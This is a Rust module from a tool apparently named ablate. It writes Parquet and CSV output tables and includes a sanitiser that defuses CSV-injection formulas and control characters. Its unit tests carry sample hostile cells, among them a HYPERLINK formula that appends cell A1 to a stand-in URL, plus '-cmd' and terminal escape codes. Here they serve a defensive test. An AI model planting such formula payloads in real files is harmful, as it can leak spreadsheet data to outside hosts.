//! Output tables: Parquet (marked with ablate's key-value metadata) and CSV. Where they go, and
//! what may be replaced, is [`crate::io::output`]'s job.

use std::fs::File;
use std::path::Path;

use polars::prelude::*;

use crate::error::{Error, Result};
use crate::io::output;

/// Writes a data frame as Parquet (zstd, with statistics), with the key-value metadata entry
/// [`output::PARQUET_KEY`] = the tool version, which marks the file as ablate's. Deterministic: the
/// same frame gives the same bytes.
///
/// # Errors
/// The file cannot be created or written.
pub fn parquet(df: &mut DataFrame, path: &Path) -> Result<()> {
    parquet_with(
        df,
        path,
        vec![(
            output::PARQUET_KEY.to_string(),
            env!("CARGO_PKG_VERSION").to_string(),
        )],
    )
}

/// As [`parquet`], with the given key-value metadata (which should include
/// [`output::PARQUET_KEY`], so that ablate may later replace the file).
///
/// # Errors
/// The file cannot be created or written.
pub fn parquet_with(
    df: &mut DataFrame,
    path: &Path,
    mut metadata: Vec<(String, String)>,
) -> Result<()> {
    metadata.insert(0, arrow_schema_hint(df.schema()));
    let file = File::create(path).map_err(|e| Error::io(path, e))?;
    ParquetWriter::new(file)
        .with_compression(ParquetCompression::Zstd(None))
        .with_key_value_metadata(Some(KeyValueMetadata::from_static(metadata)))
        .finish(df)
        .map_err(|e| Error::Polars {
            context: format!("writing {}", path.display()),
            source: Box::new(e),
        })?;
    Ok(())
}

/// The `ARROW:schema` entry readers take their Arrow types from, at Arrow's oldest compatibility
/// level: `large_string` and `large_list` rather than the view types Polars writes by default.
/// The column data is the same; only the hint differs. pyarrow cannot give pandas a list of
/// string views ("Not implemented type for Arrow list to pandas: string_view"), so without this
/// `pandas.read_parquet` failed on every table of ours with a list column (an arms table, an
/// export).
fn arrow_schema_hint(schema: &Schema) -> (String, String) {
    let arrow = schema.to_arrow(CompatLevel::oldest());
    let kv = polars_parquet::arrow::write::schema_to_metadata_key(&arrow);
    (kv.key, kv.value.unwrap_or_default())
}

/// Writes frames one after another into one Parquet file (as [`parquet`]): for tables too large
/// to hold whole, produced a chunk at a time. `next` returns `None` when done.
///
/// # Errors
/// The file cannot be created or written; `next` fails.
pub fn parquet_chunks(
    path: &Path,
    mut next: impl FnMut() -> Result<Option<DataFrame>>,
) -> Result<()> {
    let polars_error = |e: PolarsError| Error::Polars {
        context: format!("writing {}", path.display()),
        source: Box::new(e),
    };
    let Some(first) = next()? else {
        return Ok(());
    };
    let file = File::create(path).map_err(|e| Error::io(path, e))?;
    let mut writer = ParquetWriter::new(file)
        .with_compression(ParquetCompression::Zstd(None))
        .with_key_value_metadata(Some(KeyValueMetadata::from_static(vec![
            arrow_schema_hint(first.schema()),
            (
                output::PARQUET_KEY.to_string(),
                env!("CARGO_PKG_VERSION").to_string(),
            ),
        ])))
        .batched(first.schema())
        .map_err(polars_error)?;
    writer.write_batch(&first).map_err(polars_error)?;
    while let Some(df) = next()? {
        writer.write_batch(&df).map_err(polars_error)?;
    }
    writer.finish().map_err(polars_error)?;
    Ok(())
}

/// Makes a CSV cell safe to open: control characters other than tab, line feed and carriage
/// return (NUL, ESC and its terminal codes, DEL, C1) become U+FFFD, as in the report's HTML,
/// Markdown and charts (`report::escape::plain`), so a name from the data shows the same
/// everywhere and no raw NUL or escape code reaches a terminal `cat` or a spreadsheet; then a
/// cell that a spreadsheet would run as a formula is neutralised (OWASP's rule against CSV
/// injection: a leading `=`, `+`, `-`, `@`, tab or carriage return gets a `'` in front). A cell
/// that parses as a number (such as `-0.0042`) is left alone.
pub fn csv_cell(text: &str) -> std::borrow::Cow<'_, str> {
    let hidden = |c: char| c.is_control() && !matches!(c, '\t' | '\n' | '\r');
    let text: std::borrow::Cow<'_, str> = if text.chars().any(hidden) {
        text.chars()
            .map(|c| if hidden(c) { '\u{FFFD}' } else { c })
            .collect::<String>()
            .into()
    } else {
        text.into()
    };
    let risky = text
        .chars()
        .next()
        .is_some_and(|c| matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r'));
    if risky && text.trim().parse::<f64>().is_err() {
        format!("'{text}").into()
    } else {
        text
    }
}

/// Writes a data frame as CSV with a header line. Every text cell (and header) goes through
/// [`csv_cell`], so no name from the data becomes a spreadsheet formula; numeric columns are
/// written as numbers. For files people open (the report's tables); a file ablate or a harness
/// reads back uses [`csv_data`].
///
/// # Errors
/// The file cannot be created or written.
pub fn csv(df: &DataFrame, path: &Path) -> Result<()> {
    let bytes = csv_bytes(df, path)?;
    std::fs::write(path, bytes).map_err(|e| Error::io(path, e))
}

/// CSV bytes of a table given as text columns (`None` is an empty field), through
/// [`csv_bytes`]: headers and cells that a spreadsheet would run as formulas are defused.
/// `path` is the file it is for, named in errors.
///
/// # Errors
/// The columns differ in length (a bug).
pub fn csv_from_columns(
    headers: &[String],
    columns: Vec<Vec<Option<String>>>,
    path: &Path,
) -> Result<Vec<u8>> {
    let height = columns.first().map_or(0, Vec::len);
    let columns: Vec<Column> = headers
        .iter()
        .zip(columns)
        .map(|(h, cells)| Column::new(h.as_str().into(), cells))
        .collect();
    let df = DataFrame::new(height, columns).map_err(|e| Error::Polars {
        context: format!("building {}", path.display()),
        source: Box::new(e),
    })?;
    csv_bytes(&df, path)
}

/// [`csv()`]'s bytes, for a file written elsewhere (say, into an [`crate::io::output::AtomicDir`]);
/// `path` is the file they are for, named in errors.
///
/// # Errors
/// Polars cannot write the frame (a bug).
pub fn csv_bytes(df: &DataFrame, path: &Path) -> Result<Vec<u8>> {
    let polars_err = |e| Error::Polars {
        context: format!("writing {}", path.display()),
        source: Box::new(e),
    };
    let mut columns = Vec::with_capacity(df.width());
    for col in df.columns() {
        let name = csv_cell(col.name().as_str()).into_owned();
        let col = if col.dtype() == &DataType::String {
            let cells: StringChunked = col
                .str()
                .map_err(polars_err)?
                .iter()
                .map(|v| v.map(|t| csv_cell(t).into_owned()))
                .collect();
            cells.into_column().with_name(name.into())
        } else {
            col.clone().with_name(name.into())
        };
        columns.push(col);
    }
    let mut safe = DataFrame::new(df.height(), columns).map_err(polars_err)?;
    let mut bytes = Vec::new();
    CsvWriter::new(&mut bytes)
        .include_header(true)
        .finish(&mut safe)
        .map_err(polars_err)?;
    Ok(bytes)
}

/// Writes a data frame as plain CSV, every cell as it is: for tables that ablate or an eval
/// harness reads back (a batch of calls, an arms table), whose ids must round-trip. A guard quote
/// would turn the case `-q1` into `'-q1`, which then matches no case. These files are data, not
/// sheets: open them in a spreadsheet only as text.
///
/// # Errors
/// The file cannot be created or written.
pub fn csv_data(df: &DataFrame, path: &Path) -> Result<()> {
    let mut df = df.clone();
    let file = File::create(path).map_err(|e| Error::io(path, e))?;
    CsvWriter::new(file)
        .include_header(true)
        .finish(&mut df)
        .map_err(|e| Error::Polars {
            context: format!("writing {}", path.display()),
            source: Box::new(e),
        })
}

/// Whether a path names a CSV file (by its extension, in any case).
pub(crate) fn is_csv(path: &Path) -> bool {
    path.extension()
        .and_then(|e| e.to_str())
        .is_some_and(|e| e.eq_ignore_ascii_case("csv"))
}

/// A `list<str>` column from one list per row (empty lists keep the text item type).
pub fn list_column(name: &str, lists: &[Vec<String>]) -> Column {
    let series: Vec<Series> = lists
        .iter()
        .map(|l| {
            if l.is_empty() {
                Series::new_empty(PlSmallStr::EMPTY, &DataType::String)
            } else {
                Series::new(
                    PlSmallStr::EMPTY,
                    l.iter().map(String::as_str).collect::<Vec<_>>(),
                )
            }
        })
        .collect();
    Series::new(name.into(), series).into()
}

/// Writes an arms table (arm, removed, components, design) to `path`, as Parquet (list columns)
/// or, for a `.csv` path, CSV (lists joined with `;`). Written to a temporary file and renamed; an
/// existing file is replaced only if ablate wrote it, or with `force` ([`output::write_file`]).
///
/// # Errors
/// The file may not be replaced, or cannot be written.
pub fn arms_table(
    path: &Path,
    arms: &[(String, Vec<String>)],
    design: &str,
    force: bool,
) -> Result<()> {
    let csv = is_csv(path);
    let labels: Vec<&str> = arms.iter().map(|a| a.0.as_str()).collect();
    let designs: Vec<&str> = vec![design; arms.len()];
    let (removed, components): (Column, Column) = if csv {
        (
            Column::new(
                "removed".into(),
                arms.iter().map(|a| a.1.join(";")).collect::<Vec<_>>(),
            ),
            Column::new("components".into(), vec![""; arms.len()]),
        )
    } else {
        let removed: Vec<Vec<String>> = arms.iter().map(|a| a.1.clone()).collect();
        (
            list_column("removed", &removed),
            list_column("components", &vec![Vec::new(); arms.len()]),
        )
    };
    let df = DataFrame::new_infer_height(vec![
        Column::new("arm".into(), labels),
        removed,
        components,
        Column::new("design".into(), designs),
    ])
    .map_err(|e| Error::Polars {
        context: "building the arms table".into(),
        source: Box::new(e),
    })?;
    disposable_table(path, df, csv, "plan", force)
}

/// Writes a whole arms table, every column an [`ArmSpec`](crate::io::ArmSpec) holds (arm,
/// removed, components, budget_ratio, selector, selector_threshold, design), as a disposable
/// output of `verb`: Parquet, or CSV for a `.csv` path (lists joined with `;`).
///
/// # Errors
/// The file may not be replaced, or cannot be written.
pub fn arm_specs_table(
    path: &Path,
    specs: &[crate::io::ArmSpec],
    verb: &str,
    force: bool,
) -> Result<()> {
    let csv = is_csv(path);
    let lists = |name: &str, get: fn(&crate::io::ArmSpec) -> &Vec<String>| -> Column {
        if csv {
            Column::new(
                name.into(),
                specs.iter().map(|a| get(a).join(";")).collect::<Vec<_>>(),
            )
        } else {
            let v: Vec<Vec<String>> = specs.iter().map(|a| get(a).clone()).collect();
            list_column(name, &v)
        }
    };
    let mut columns = vec![
        Column::new(
            "arm".into(),
            specs.iter().map(|a| a.arm.as_str()).collect::<Vec<_>>(),
        ),
        lists("removed", |a| &a.removed),
        lists("components", |a| &a.components),
    ];
    // Optional columns only when some arm has a value: a CSV column of empty cells reads back as
    // text.
    if specs.iter().any(|a| a.budget_ratio.is_some()) {
        columns.push(Column::new(
            "budget_ratio".into(),
            specs.iter().map(|a| a.budget_ratio).collect::<Vec<_>>(),
        ));
    }
    if specs.iter().any(|a| a.selector.is_some()) {
        columns.push(Column::new(
            "selector".into(),
            specs.iter().map(|a| a.selector.clone()).collect::<Vec<_>>(),
        ));
    }
    if specs.iter().any(|a| a.selector_threshold.is_some()) {
        columns.push(Column::new(
            "selector_threshold".into(),
            specs
                .iter()
                .map(|a| a.selector_threshold)
                .collect::<Vec<_>>(),
        ));
    }
    if specs.iter().any(|a| a.design.is_some()) {
        columns.push(Column::new(
            "design".into(),
            specs.iter().map(|a| a.design.clone()).collect::<Vec<_>>(),
        ));
    }
    let df = DataFrame::new_infer_height(columns).map_err(|e| Error::Polars {
        context: "building the arms table".into(),
        source: Box::new(e),
    })?;
    disposable_table(path, df, csv, verb, force)
}

/// Writes a disposable output table of `verb` to one file through [`output::write_file`]:
/// Parquet marked with [`output::OUTPUT_KEY`] = `verb` (so a later run may replace it), or with
/// `csv` plain CSV ([`csv_data`]: ablate reads it back).
fn disposable_table(
    path: &Path,
    mut df: DataFrame,
    csv: bool,
    verb: &str,
    force: bool,
) -> Result<()> {
    output::write_file(path, force, |tmp| {
        if csv {
            csv_data(&df, tmp)
        } else {
            parquet_with(
                &mut df,
                tmp,
                vec![
                    (
                        output::PARQUET_KEY.to_string(),
                        env!("CARGO_PKG_VERSION").to_string(),
                    ),
                    (output::OUTPUT_KEY.to_string(), verb.to_string()),
                ],
            )
        }
    })
}

/// Writes a batch of calls, rows of (case_id, arm, repeat), for an eval harness: Parquet, or CSV
/// for a `.csv` path; atomically, and replacing an existing file only as [`arms_table`] does.
///
/// # Errors
/// The file may not be replaced, or cannot be written.
pub fn calls_table(path: &Path, calls: &[(&str, &str, u32)], force: bool) -> Result<()> {
    let csv = is_csv(path);
    let df = DataFrame::new_infer_height(vec![
        Column::new(
            "case_id".into(),
            calls.iter().map(|c| c.0).collect::<Vec<_>>(),
        ),
        Column::new("arm".into(), calls.iter().map(|c| c.1).collect::<Vec<_>>()),
        Column::new(
            "repeat".into(),
            calls.iter().map(|c| i64::from(c.2)).collect::<Vec<_>>(),
        ),
    ])
    .map_err(|e| Error::Polars {
        context: "building the batch of calls".into(),
        source: Box::new(e),
    })?;
    disposable_table(path, df, csv, "next", force)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_formulas_are_neutralised_numbers_are_not() {
        assert_eq!(
            csv_cell("=HYPERLINK(\"http://x\"&A1,\"x\")"),
            "'=HYPERLINK(\"http://x\"&A1,\"x\")"
        );
        for risky in ["+1+1", "-cmd", "@SUM(A1)", "\tx", "\rx"] {
            assert!(csv_cell(risky).starts_with('\''), "{risky:?}");
        }
        for safe in ["-0.0042", "+3", "1e-5", "without-system", "", "—"] {
            assert_eq!(csv_cell(safe), safe);
        }
    }

    /// A slice named with NUL and an escape code: the report's CSV showed both raw.
    #[test]
    fn csv_cells_show_control_characters_as_replacement_characters() {
        assert_eq!(
            csv_cell("bill\u{0}ing\u{1b}[31m"),
            "bill\u{FFFD}ing\u{FFFD}[31m"
        );
        assert_eq!(csv_cell("\u{7f}\u{85}x"), "\u{FFFD}\u{FFFD}x");
        assert_eq!(csv_cell("two\nlines\tand a tab"), "two\nlines\tand a tab");
        assert_eq!(csv_cell("\u{1b}=1+2"), "\u{FFFD}=1+2");
        let root = tempfile::tempdir().unwrap();
        let path = root.path().join("t.csv");
        let df = df!("slice" => ["bill\u{0}ing\u{1b}[31m"], "n" => [1i64]).unwrap();
        csv(&df, &path).unwrap();
        let bytes = std::fs::read(&path).unwrap();
        assert!(!bytes.contains(&0) && !bytes.contains(&0x1b), "{bytes:?}");
    }

    #[test]
    fn csv_writes_neutralised_text_and_plain_numbers() {
        let root = tempfile::tempdir().unwrap();
        let path = root.path().join("t.csv");
        let df = df!("arm" => ["=1+2", "ok"], "drop" => [-0.5, 0.25]).unwrap();
        csv(&df, &path).unwrap();
        assert_eq!(
            std::fs::read_to_string(&path).unwrap(),
            "arm,drop\n'=1+2,-0.5\nok,0.25\n"
        );
    }
}
